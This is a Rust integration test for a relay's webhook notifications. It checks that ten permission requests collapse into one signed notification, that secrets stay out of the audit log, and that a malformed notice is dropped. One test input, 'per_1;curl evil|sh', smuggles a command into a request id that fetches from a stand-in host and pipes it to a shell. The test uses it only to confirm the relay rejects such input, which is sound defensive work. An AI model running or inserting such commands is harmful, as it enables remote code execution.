//! Notifications at a real relay (issue #22), with a scripted agent: ten permission requests
//! of one session within a second become one webhook notification saying ten (signed), and
//! an attention notice whose names are not ids (shell syntax) is dropped, never sent.

use crate::harness::*;
use crate::ownership::{session_agent, tell_relay};
use anyhow::{Context, Result};
use cm_client as client;
use proto::header::{Op, StreamHeader};
use proto::ids::ReqId;
use proto::message::Control;
use proto::notify::{
    Attention, AttentionKind, ChannelInfo, ChannelName, ChannelSpec, ChannelTarget, NotifyTested,
};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;
use tokio::sync::mpsc;

pub(crate) const SECRET: &str = "s3cret";

/// A webhook receiver: each request's body and signature header; answers 200.
pub(crate) async fn receiver() -> Result<(String, mpsc::UnboundedReceiver<(Vec<u8>, String)>)> {
    let listener = TcpListener::bind("127.0.0.1:0").await?;
    let url = format!("http://{}/hook", listener.local_addr()?);
    let (tx, rx) = mpsc::unbounded_channel();
    tokio::spawn(async move {
        while let Ok((mut conn, _)) = listener.accept().await {
            let tx = tx.clone();
            tokio::spawn(async move {
                let mut buf = Vec::new();
                let mut chunk = [0u8; 4096];
                loop {
                    if let Some(end) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
                        let head = String::from_utf8_lossy(&buf[..end]).to_lowercase();
                        let field = |name: &str| {
                            head.lines()
                                .find_map(|l| l.strip_prefix(name).map(|v| v.trim().to_owned()))
                                .unwrap_or_default()
                        };
                        let len: usize = field("content-length:").parse().unwrap_or(0);
                        let sig = field("x-codemantle-signature:");
                        if buf.len() >= end + 4 + len {
                            let body = buf[end + 4..end + 4 + len].to_vec();
                            let _ = conn
                                .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
                                .await;
                            let _ = tx.send((body, sig));
                            return;
                        }
                    }
                    match conn.read(&mut chunk).await {
                        Ok(0) | Err(_) => return,
                        Ok(n) => buf.extend_from_slice(&chunk[..n]),
                    }
                }
            });
        }
    });
    Ok((url, rx))
}

/// Adds the caller's webhook channel `hook` for `url`, signed with [`SECRET`].
pub(crate) async fn add_webhook(conn: &quinn::Connection, url: String) -> Result<ChannelInfo> {
    let spec = ChannelSpec {
        name: "hook".into(),
        target: ChannelTarget::Webhook { url },
        secret: Some(SECRET.into()),
        events: vec![],
        quiet: None,
        ignore_presence: false,
    };
    Ok(client::request(
        conn,
        &StreamHeader::new(Op::NotifyAdd, ReqId(1)),
        Some(&spec),
    )
    .await?)
}

pub(crate) fn permission(session: &str, request: &str) -> Control {
    Control::Attention {
        attention: Attention {
            workspace: "demo".into(),
            session: Some(session.into()),
            title: None,
            kind: AttentionKind::PermissionWaiting,
            request: Some(request.into()),
        },
    }
}

pub(crate) async fn next(
    rx: &mut mpsc::UnboundedReceiver<(Vec<u8>, String)>,
) -> Result<serde_json::Value> {
    let (body, sig) = tokio::time::timeout(WAIT, rx.recv())
        .await?
        .context("receiver gone")?;
    let key = ring::hmac::Key::new(ring::hmac::HMAC_SHA256, SECRET.as_bytes());
    let mac = hex::decode(sig.strip_prefix("sha256=").context("no signature")?)?;
    ring::hmac::verify(&key, &body, &mac).map_err(|_| anyhow::anyhow!("bad signature"))?;
    Ok(serde_json::from_slice(&body)?)
}

#[tokio::test]
async fn ten_permission_requests_in_a_second_make_one_signed_notification_saying_ten() -> Result<()>
{
    let relay = TestRelay::start().await?;
    let (url, mut rx) = receiver().await?;
    let (_agent, control) = session_agent(&relay).await?;
    let cred = relay.login_owner().await?;
    let op = operator(&relay.addr_str(), &relay.state.pin, &cred).await?;
    add_webhook(&op.conn, url).await?;

    // Shell syntax in a request id: dropped at the relay.
    tell_relay(&control, permission("ses_2", "per_1;curl evil|sh")).await?;
    for i in 0..10 {
        tell_relay(&control, permission("ses_1", &format!("per_{i}"))).await?;
    }
    let first = next(&mut rx).await?;
    assert_eq!(first["count"], 10, "{first}");
    assert_eq!(first["session"], "ses_1");
    // Ten requests wait: the command lists them all rather than approving only the last.
    assert_eq!(
        first["command"].as_str(),
        Some("cm-tui permissions box demo"),
        "{first}"
    );
    // Whatever was due with it went out with it: the next request is the test.
    let tested: NotifyTested = client::request(
        &op.conn,
        &StreamHeader::new(Op::NotifyTest, ReqId(2)),
        Some(&ChannelName {
            name: "hook".into(),
        }),
    )
    .await?;
    assert!(tested.delivered, "{tested:?}");
    let second = next(&mut rx).await?;
    assert_eq!(
        second["event"], "test",
        "the malformed notice was sent: {second}"
    );
    // The audit trail names the channel kind, never the secret.
    let audit = relay.state.store()?.audit_tail(50)?;
    let text = format!("{audit:?}");
    assert!(text.contains("notify channel added: webhook"), "{text}");
    assert!(!text.contains(SECRET), "{text}");
    Ok(())
}
